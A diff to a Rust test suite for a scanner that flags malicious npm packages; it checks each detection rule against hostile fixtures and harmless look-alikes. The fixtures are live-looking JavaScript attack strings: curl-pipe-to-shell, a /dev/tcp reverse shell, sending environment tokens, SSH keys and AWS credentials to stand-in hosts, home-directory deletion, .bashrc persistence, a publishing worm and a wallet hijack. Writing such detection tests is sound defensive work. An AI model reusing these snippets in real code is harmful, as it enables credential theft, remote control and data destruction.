@@ -1,4 +1,5 @@
 //! Every rule: what it must find, in several disguises, and what it must leave alone.
+#![expect(clippy::unwrap_used, reason = "test code")]
 
 use packguard_javascript::JavaScript;
 use packguard_sdk::testing::PackageBuilder;
@@ -14,17 +15,26 @@ fn package(files: &[(&str, &str)]) -> Analysis {
 
 fn install(code: &str) -> Analysis {
     package(&[
-        ("package.json", r#"{"name":"sample","scripts":{"postinstall":"node setup.js"}}"#),
+        (
+            "package.json",
+            r#"{"name":"sample","scripts":{"postinstall":"node setup.js"}}"#,
+        ),
         ("setup.js", code),
     ])
 }
 
 fn import(code: &str) -> Analysis {
-    package(&[("package.json", r#"{"name":"sample","main":"index.js"}"#), ("index.js", code)])
+    package(&[
+        ("package.json", r#"{"name":"sample","main":"index.js"}"#),
+        ("index.js", code),
+    ])
 }
 
 fn execute(code: &str) -> Analysis {
-    package(&[("package.json", r#"{"name":"sample"}"#), ("lib/tool.js", code)])
+    package(&[
+        ("package.json", r#"{"name":"sample"}"#),
+        ("lib/tool.js", code),
+    ])
 }
 
 /// Rules found at a severity or above.
@@ -80,7 +90,8 @@ fn decoded_code_is_found_under_every_disguise() {
         format!("[atob('{LOG}')].forEach(eval)"),
         "eval(require('zlib').gunzipSync(Buffer.from(blob, 'base64')).toString())".into(),
         "const c = require('crypto').createDecipheriv('aes-256-cbc', k, v);\n\
-         eval(c.update(data, 'hex', 'utf8') + c.final('utf8'))".into(),
+         eval(c.update(data, 'hex', 'utf8') + c.final('utf8'))"
+            .into(),
         "eval([99,111,110,115,111,108,101].map(c => String.fromCharCode(c)).join(''))".into(),
         "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41))".into(),
         "eval(unescape('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'))".into(),
@@ -158,7 +169,9 @@ fn downloaded_code_is_found() {
         eprintln!("{code}");
         finds(&import(code), "js-download-eval", Severity::High);
     }
-    quiet(&import("fetch('https://a.example/x').then(r => r.json()).then(x => { module.exports.list = x })"));
+    quiet(&import(
+        "fetch('https://a.example/x').then(r => r.json()).then(x => { module.exports.list = x })",
+    ));
 }
 
 #[test]
@@ -173,7 +186,11 @@ fn hidden_names_are_found() {
         eprintln!("{code}");
         finds(&import(code), "js-hidden-module", Severity::High);
     }
-    finds(&import("globalThis['ev' + 'al'](x)"), "js-hidden-call", Severity::Medium);
+    finds(
+        &import("globalThis['ev' + 'al'](x)"),
+        "js-hidden-call",
+        Severity::Medium,
+    );
     for code in [
         "const name = 'child_process'; require(name)",
         "require(`./locale/${name}`)",
@@ -183,6 +200,39 @@ fn hidden_names_are_found() {
         eprintln!("{code}");
         quiet(&import(code));
     }
+}
+
+#[test]
+fn an_install_script_that_loads_much_runs_little_of_it() {
+    let tool = "exports.send = () => fetch('https://api.example', { headers: { a: process.env.GITHUB_TOKEN } })";
+    let mut files = vec![
+        (
+            "package.json".to_owned(),
+            r#"{"scripts":{"postinstall":"node setup.js"}}"#.to_owned(),
+        ),
+        ("tool.js".to_owned(), tool.to_owned()),
+    ];
+    let mut setup = "require('./tool');".to_owned();
+    for at in 0..50 {
+        setup.push_str(&format!("require('./part{at}');"));
+        files.push((format!("part{at}.js"), format!("exports.x = {at}")));
+    }
+    let small = [
+        ("package.json", &*files[0].1),
+        ("setup.js", "require('./tool').send()"),
+        ("tool.js", tool),
+    ];
+    finds(
+        &package(&small),
+        "js-exfiltrate-environment",
+        Severity::High,
+    );
+    files.push(("setup.js".to_owned(), setup));
+    let files: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(path, text)| (&**path, &**text))
+        .collect();
+    quiet(&package(&files));
 }
 
 #[test]
@@ -199,7 +249,11 @@ fn files_that_are_downloaded_and_run_are_found() {
     let node = "const fs = require('fs'); fetch('https://files.example/p').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/p.js', t); require('child_process').spawn('node', ['/tmp/p.js']) })";
     finds(&install(node), "js-download-execute", Severity::High);
     let hostile = pipe.replace("https://files.example/a.exe", "https://transfer.sh/a.exe");
-    finds(&install(&hostile), "js-download-execute", Severity::Critical);
+    finds(
+        &install(&hostile),
+        "js-download-execute",
+        Severity::Critical,
+    );
 }
 
 #[test]
@@ -216,12 +270,19 @@ fn honest_installers_are_quiet() {
             "package.json",
             r#"{"name":"frobnicator","repository":"github:acme/frobnicator","scripts":{"install":"node i.js"}}"#,
         ),
-        ("i.js", &own("https://github.com/acme/frobnicator/releases/download/v1/x")),
+        (
+            "i.js",
+            &own("https://github.com/acme/frobnicator/releases/download/v1/x"),
+        ),
     ]);
     finds(&analysis, "js-install-download", Severity::Low);
     quiet(&analysis);
-    quiet(&install("require('child_process').spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' })"));
-    quiet(&install("console.log('Thank you for using sample! https://opencollective.example')"));
+    quiet(&install(
+        "require('child_process').spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' })",
+    ));
+    quiet(&install(
+        "console.log('Thank you for using sample! https://opencollective.example')",
+    ));
     quiet(&install(
         "const fs = require('fs'); const a = fs.readFileSync('package.json', 'utf8'); fs.writeFileSync('out.json', a)",
     ));
@@ -230,16 +291,56 @@ fn honest_installers_are_quiet() {
 #[test]
 fn shell_commands_are_read() {
     for (code, rule, least) in [
-        ("require('child_process').exec('curl -s https://a.example/i.sh | bash')", "js-shell-download-run", Severity::High),
-        ("const {execSync} = require('child_process'); execSync('wget -qO- https://a.example | sh')", "js-shell-download-run", Severity::High),
-        ("require('child_process').spawn('sh', ['-c', 'curl https://a.example | sh'])", "js-shell-download-run", Severity::High),
-        ("require('node:child_process').execSync(atob('Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo'))", "js-shell-download-run", Severity::High),
-        ("require('child_process').exec('curl -d \"$(env)\" https://a.example')", "js-shell-upload", Severity::High),
-        ("require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')", "js-shell-reverse-shell", Severity::High),
-        ("require('child_process').exec('powershell -enc dwBoAG8AYQBtAGkA')", "js-shell-decode-run", Severity::High),
-        ("require('child_process').exec('rm -rf ~/*')", "js-shell-destroy", Severity::High),
-        ("require('child_process').exec('echo \"sh /tmp/x\" >> ~/.bashrc')", "js-shell-persist", Severity::High),
-        ("const p = require('util').promisify(require('child_process').exec); p('curl https://a.example | sh')", "js-shell-download-run", Severity::High),
+        (
+            "require('child_process').exec('curl -s https://a.example/i.sh | bash')",
+            "js-shell-download-run",
+            Severity::High,
+        ),
+        (
+            "const {execSync} = require('child_process'); execSync('wget -qO- https://a.example | sh')",
+            "js-shell-download-run",
+            Severity::High,
+        ),
+        (
+            "require('child_process').spawn('sh', ['-c', 'curl https://a.example | sh'])",
+            "js-shell-download-run",
+            Severity::High,
+        ),
+        (
+            "require('node:child_process').execSync(atob('Y3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNo'))",
+            "js-shell-download-run",
+            Severity::High,
+        ),
+        (
+            "require('child_process').exec('curl -d \"$(env)\" https://a.example')",
+            "js-shell-upload",
+            Severity::High,
+        ),
+        (
+            "require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')",
+            "js-shell-reverse-shell",
+            Severity::High,
+        ),
+        (
+            "require('child_process').exec('powershell -enc dwBoAG8AYQBtAGkA')",
+            "js-shell-decode-run",
+            Severity::High,
+        ),
+        (
+            "require('child_process').exec('rm -rf ~/*')",
+            "js-shell-destroy",
+            Severity::High,
+        ),
+        (
+            "require('child_process').exec('echo \"sh /tmp/x\" >> ~/.bashrc')",
+            "js-shell-persist",
+            Severity::High,
+        ),
+        (
+            "const p = require('util').promisify(require('child_process').exec); p('curl https://a.example | sh')",
+            "js-shell-download-run",
+            Severity::High,
+        ),
     ] {
         eprintln!("{code}");
         finds(&install(code), rule, least);
@@ -256,25 +357,67 @@ fn shell_commands_are_read() {
 #[test]
 fn exfiltration_is_followed_from_source_to_sink() {
     for (code, rule) in [
-        ("fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })", "js-exfiltrate-environment"),
-        ("const https = require('https'); const r = https.request({ hostname: 'a.example', method: 'POST' }); r.write(JSON.stringify({ ...process.env })); r.end()", "js-exfiltrate-environment"),
-        ("const axios = require('axios'); const all = {}; for (const k of Object.keys(process.env)) all[k] = process.env[k]; axios.post('https://a.example', all)", "js-exfiltrate-environment"),
-        ("const e = process['e' + 'nv']; require('axios')({ url: 'https://a.example', data: e })", "js-exfiltrate-environment"),
-        ("fetch('https://a.example/?t=' + process.env.NPM_TOKEN)", "js-exfiltrate-environment"),
-        ("const os = require('os'); const d = { h: os.hostname(), u: os.userInfo().username, c: process.cwd() };\nconst q = require('querystring').stringify(d); const r = require('https').request({ hostname: 'a.example', path: '/' + q }); r.end()", "js-exfiltrate-host"),
-        ("const { hostname, userInfo } = require('os'); require('dns').lookup(`${hostname()}.${userInfo().username}.a.example`, () => {})", "js-exfiltrate-host"),
-        ("const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://a.example', { method: 'POST', body: k })", "js-exfiltrate-credentials"),
-        ("const fs = require('fs'); fs.readFile(process.env.HOME + '/.aws/credentials', 'utf8', (e, d) => { require('https').get('https://a.example/?' + d) })", "js-exfiltrate-credentials"),
-        ("const c = require('clipboardy').readSync(); fetch('https://a.example', { body: c })", "js-exfiltrate-captured"),
-        ("const cp = require('child_process'); const who = cp.execSync('whoami').toString(); const h = require('os').hostname(); cp.exec('curl https://a.example/?' + who + h)", "js-exfiltrate-host"),
+        (
+            "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
+            "js-exfiltrate-environment",
+        ),
+        (
+            "const https = require('https'); const r = https.request({ hostname: 'a.example', method: 'POST' }); r.write(JSON.stringify({ ...process.env })); r.end()",
+            "js-exfiltrate-environment",
+        ),
+        (
+            "const axios = require('axios'); const all = {}; for (const k of Object.keys(process.env)) all[k] = process.env[k]; axios.post('https://a.example', all)",
+            "js-exfiltrate-environment",
+        ),
+        (
+            "const e = process['e' + 'nv']; require('axios')({ url: 'https://a.example', data: e })",
+            "js-exfiltrate-environment",
+        ),
+        (
+            "fetch('https://a.example/?t=' + process.env.NPM_TOKEN)",
+            "js-exfiltrate-environment",
+        ),
+        (
+            "const os = require('os'); const d = { h: os.hostname(), u: os.userInfo().username, c: process.cwd() };\nconst q = require('querystring').stringify(d); const r = require('https').request({ hostname: 'a.example', path: '/' + q }); r.end()",
+            "js-exfiltrate-host",
+        ),
+        (
+            "const { hostname, userInfo } = require('os'); require('dns').lookup(`${hostname()}.${userInfo().username}.a.example`, () => {})",
+            "js-exfiltrate-host",
+        ),
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); fetch('https://a.example', { method: 'POST', body: k })",
+            "js-exfiltrate-credentials",
+        ),
+        (
+            "const fs = require('fs'); fs.readFile(process.env.HOME + '/.aws/credentials', 'utf8', (e, d) => { require('https').get('https://a.example/?' + d) })",
+            "js-exfiltrate-credentials",
+        ),
+        (
+            "const c = require('clipboardy').readSync(); fetch('https://a.example', { body: c })",
+            "js-exfiltrate-captured",
+        ),
+        (
+            "const cp = require('child_process'); const who = cp.execSync('whoami').toString(); const h = require('os').hostname(); cp.exec('curl https://a.example/?' + who + h)",
+            "js-exfiltrate-host",
+        ),
     ] {
-        let least = if rule.ends_with("host") { Severity::Medium } else { Severity::High };
+        let least = if rule.ends_with("host") {
+            Severity::Medium
+        } else {
+            Severity::High
+        };
         eprintln!("{code}");
         finds(&install(code), rule, least);
     }
     // Worse with a destination that only thieves use.
-    let hook = "fetch('https://webhook.site/abc', { method: 'POST', body: JSON.stringify(process.env) })";
-    finds(&execute(&format!("module.exports = () => {hook}")), "js-exfiltrate-environment", Severity::High);
+    let hook =
+        "fetch('https://webhook.site/abc', { method: 'POST', body: JSON.stringify(process.env) })";
+    finds(
+        &execute(&format!("module.exports = () => {hook}")),
+        "js-exfiltrate-environment",
+        Severity::High,
+    );
 }
 
 #[test]
@@ -304,11 +447,15 @@ fn reverse_shells_are_found() {
         finds(&import(code), "js-reverse-shell", Severity::Critical);
     }
     finds(
-        &import("const s = require('net').connect(1, 'a.example'); s.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => s.write(o)))"),
+        &import(
+            "const s = require('net').connect(1, 'a.example'); s.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => s.write(o)))",
+        ),
         "js-remote-command",
         Severity::High,
     );
-    quiet(&import("const net = require('net'); const c = net.connect(80, 'a.example'); c.on('data', d => console.log(d)); c.pipe(process.stdout)"));
+    quiet(&import(
+        "const net = require('net'); const c = net.connect(80, 'a.example'); c.on('data', d => console.log(d)); c.pipe(process.stdout)",
+    ));
 }
 
 #[test]
@@ -316,7 +463,11 @@ fn hosts_matter_more_in_install_scripts() {
     let code = "module.exports = 'https://webhook.site/x'";
     finds(&execute(code), "js-indicator-host", Severity::Low);
     quiet(&execute(code));
-    finds(&install("fetch('https://discord.com/api/webhooks/1/a')"), "js-indicator-host", Severity::High);
+    finds(
+        &install("fetch('https://discord.com/api/webhooks/1/a')"),
+        "js-indicator-host",
+        Severity::High,
+    );
     quiet(&install("const home = 'https://docs.example/install'"));
 }
 
@@ -326,13 +477,27 @@ fn string_arrays_are_found_and_minified_code_is_not() {
         function _0x22cd(_0xa,_0xb){const _0xc=_0x4a1b();return _0x22cd=function(_0xd,_0xe){_0xd=_0xd-0x64;let _0xf=_0xc[_0xd];return _0xf;},_0x22cd(_0xa,_0xb);}\
         (function(_0x3,_0x4){const _0x5=_0x22cd,_0x6=_0x3();while(!![]){try{const _0x7=parseInt(_0x5(0x65))/0x1+-parseInt(_0x5(0x66))/0x2*(parseInt(_0x5(0x68))/0x3)+parseInt(_0x5(0x69))/0x4;if(_0x7===_0x4)break;else _0x6['push'](_0x6['shift']());}catch(_0x8){_0x6['push'](_0x6['shift']());}}}(_0x4a1b,0x1b2c3));\
         console[_0x22cd(0x64)](_0x22cd(0x67));";
-    finds(&import(obfuscated), "js-obfuscated-string-array", Severity::High);
-    finds(&execute(obfuscated), "js-obfuscated-string-array", Severity::Medium);
+    finds(
+        &import(obfuscated),
+        "js-obfuscated-string-array",
+        Severity::High,
+    );
+    finds(
+        &execute(obfuscated),
+        "js-obfuscated-string-array",
+        Severity::Medium,
+    );
     let renamed = obfuscated.replace("_0x", "a");
-    finds(&import(&renamed), "js-obfuscated-string-array", Severity::High);
+    finds(
+        &import(&renamed),
+        "js-obfuscated-string-array",
+        Severity::High,
+    );
     let minified = "!function(e,t){var n=['a','b','c','d','e'];function r(e){return n[e]}for(var o=0;o<9;o++)e.push(e.shift());t(r(1),r(2),r(3),parseInt('7',10))}([],console.log);";
     quiet(&import(minified));
-    let mangled: String = (0..20).map(|at| format!("var _0x{at:04x}a = {at};")).collect();
+    let mangled: String = (0..20)
+        .map(|at| format!("var _0x{at:04x}a = {at};"))
+        .collect();
     finds(&install(&mangled), "js-mangled-names", Severity::High);
     finds(&execute(&mangled), "js-mangled-names", Severity::Low);
 }
@@ -348,15 +513,28 @@ fn packed_code_is_unpacked_and_analysed() {
 #[test]
 fn hidden_programs_and_names_are_found() {
     use base64::Engine as _;
-    let program = base64::engine::general_purpose::STANDARD.encode(b"\x7FELF\x02\x01\x01 a made-up program");
+    let program =
+        base64::engine::general_purpose::STANDARD.encode(b"\x7FELF\x02\x01\x01 a made-up program");
     finds(
-        &import(&format!("require('fs').writeFileSync('/tmp/x', Buffer.from('{program}', 'base64'))")),
+        &import(&format!(
+            "require('fs').writeFileSync('/tmp/x', Buffer.from('{program}', 'base64'))"
+        )),
         "js-hidden-payload",
         Severity::High,
     );
-    quiet(&import("require('fs').writeFileSync('a.png', Buffer.from('iVBORw0KGgo=', 'base64'))"));
-    finds(&import("const is\u{0410}dmin = true; if (is\u{0410}dmin) go()"), "js-homoglyph-name", Severity::Medium);
-    finds(&import("const { timeout, \u{3164} } = req.query"), "js-homoglyph-name", Severity::High);
+    quiet(&import(
+        "require('fs').writeFileSync('a.png', Buffer.from('iVBORw0KGgo=', 'base64'))",
+    ));
+    finds(
+        &import("const is\u{0410}dmin = true; if (is\u{0410}dmin) go()"),
+        "js-homoglyph-name",
+        Severity::Medium,
+    );
+    finds(
+        &import("const { timeout, \u{3164} } = req.query"),
+        "js-homoglyph-name",
+        Severity::High,
+    );
     quiet(&import("const größe = 1, имя = 2, π = 3"));
 }
 
@@ -364,11 +542,17 @@ fn hidden_programs_and_names_are_found() {
 fn text_tricks_are_found_in_any_file() {
     let gap = " ".repeat(300);
     finds(
-        &execute(&format!("module.exports = 1;{gap}global.x = require('child_process').exec('id');\n")),
+        &execute(&format!(
+            "module.exports = 1;{gap}global.x = require('child_process').exec('id');\n"
+        )),
         "js-hidden-by-whitespace",
         Severity::High,
     );
-    finds(&execute(&format!("x = {}", "[][(![]+[])[+[]]]+".repeat(60) + "[]")), "js-jsfuck", Severity::High);
+    finds(
+        &execute(&format!("x = {}", "[][(![]+[])[+[]]]+".repeat(60) + "[]")),
+        "js-jsfuck",
+        Severity::High,
+    );
 }
 
 #[test]
@@ -379,8 +563,14 @@ fn worms_are_found_and_release_tools_are_not() {
         const manifest = JSON.parse(fs.readFileSync('pkg/package.json')); manifest.scripts = { postinstall: 'node bundle.js' };\n\
         fs.writeFileSync('pkg/package.json', JSON.stringify(manifest)); execSync('npm publish', { cwd: 'pkg' }) } })";
     finds(&install(worm), "js-self-propagation", Severity::High);
-    finds(&install("require('child_process').execSync('npm publish')"), "js-self-propagation", Severity::High);
-    quiet(&execute("module.exports = () => require('child_process').execSync('npm publish --access public', { stdio: 'inherit' })"));
+    finds(
+        &install("require('child_process').execSync('npm publish')"),
+        "js-self-propagation",
+        Severity::High,
+    );
+    quiet(&execute(
+        "module.exports = () => require('child_process').execSync('npm publish --access public', { stdio: 'inherit' })",
+    ));
 }
 
 #[test]
@@ -389,27 +579,49 @@ fn wallet_hijacks_are_found() {
         const real = window.fetch; window.fetch = async (...a) => { const r = await real(...a); const t = await r.text(); return new Response(t.replace(eth, '0x0').replace(btc, 'bc1x')) };\n\
         const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b) }";
     finds(&import(hijack), "js-wallet-hijack", Severity::High);
-    quiet(&import("const eth = /^0x[a-fA-F0-9]{40}$/; module.exports = (a) => eth.test(a)"));
-    quiet(&import("const real = window.fetch; window.fetch = (...a) => { log(a); return real(...a) }"));
+    quiet(&import(
+        "const eth = /^0x[a-fA-F0-9]{40}$/; module.exports = (a) => eth.test(a)",
+    ));
+    quiet(&import(
+        "const real = window.fetch; window.fetch = (...a) => { log(a); return real(...a) }",
+    ));
 }
 
 #[test]
 fn destruction_persistence_and_hidden_processes_are_found() {
-    finds(&import("require('fs').rmSync(require('os').homedir(), { recursive: true })"), "js-destruction", Severity::High);
-    finds(&import("require('rimraf').sync('/')"), "js-destruction", Severity::High);
-    quiet(&import("require('fs').rmSync(require('path').join(require('os').tmpdir(), 'x'), { recursive: true })"));
     finds(
-        &install("require('fs').appendFileSync(require('path').join(require('os').homedir(), '.bashrc'), 'x')"),
+        &import("require('fs').rmSync(require('os').homedir(), { recursive: true })"),
+        "js-destruction",
+        Severity::High,
+    );
+    finds(
+        &import("require('rimraf').sync('/')"),
+        "js-destruction",
+        Severity::High,
+    );
+    quiet(&import(
+        "require('fs').rmSync(require('path').join(require('os').tmpdir(), 'x'), { recursive: true })",
+    ));
+    finds(
+        &install(
+            "require('fs').appendFileSync(require('path').join(require('os').homedir(), '.bashrc'), 'x')",
+        ),
         "js-persistence",
         Severity::High,
     );
-    quiet(&execute("exports.completion = () => require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')"));
+    quiet(&execute(
+        "exports.completion = () => require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')",
+    ));
     finds(
-        &install("require('child_process').spawn('node', ['./worker.js'], { detached: true, stdio: 'ignore' }).unref()"),
+        &install(
+            "require('child_process').spawn('node', ['./worker.js'], { detached: true, stdio: 'ignore' }).unref()",
+        ),
         "js-hidden-process",
         Severity::Medium,
     );
-    quiet(&execute("exports.start = () => require('child_process').spawn('node', ['d.js'], { detached: true, stdio: 'ignore' }).unref()"));
+    quiet(&execute(
+        "exports.start = () => require('child_process').spawn('node', ['d.js'], { detached: true, stdio: 'ignore' }).unref()",
+    ));
     finds(
         &install("process.on('uncaughtException', () => {}); require('child_process').exec('ls')"),
         "js-silenced-errors",
@@ -424,14 +636,22 @@ fn credentials_that_are_read_are_named() {
         "js-reads-credentials",
         Severity::Medium,
     );
-    quiet(&import("require('fs').readFileSync(require('os').homedir() + '/.npmrc')"));
+    quiet(&import(
+        "require('fs').readFileSync(require('os').homedir() + '/.npmrc')",
+    ));
 }
 
 #[test]
 fn a_capability_is_reported_once() {
     let analysis = package(&[
-        ("a.js", "require('child_process').exec(x); require('child_process').exec(y)"),
-        ("b.ts", "import { exec } from 'child_process'; exec(x as string)"),
+        (
+            "a.js",
+            "require('child_process').exec(x); require('child_process').exec(y)",
+        ),
+        (
+            "b.ts",
+            "import { exec } from 'child_process'; exec(x as string)",
+        ),
     ]);
     let spawns = analysis
         .findings
@@ -444,5 +664,9 @@ fn a_capability_is_reported_once() {
 
 #[test]
 fn mining_is_named() {
-    finds(&import("exports.pool = 'stratum+tcp://pool.example:3333'"), "js-miner", Severity::Low);
+    finds(
+        &import("exports.pool = 'stratum+tcp://pool.example:3333'"),
+        "js-miner",
+        Severity::Low,
+    );
 }
